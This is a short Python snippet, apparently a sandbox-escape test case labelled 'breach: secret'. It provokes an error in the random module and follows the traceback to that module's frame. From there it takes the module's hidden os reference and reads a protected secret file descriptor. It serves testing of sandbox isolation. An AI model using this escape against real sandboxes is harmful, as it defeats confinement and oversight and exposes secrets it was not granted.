# The traceback of an error in the standard library leads to its frame, and to os.
# breach: secret
import random
try:
    random.Random().sample(None, 3)
except TypeError as error:
    frame = error.__traceback__.tb_next.tb_frame
frame.f_globals["_os"].pread(SECRET_FD, 100, 0)
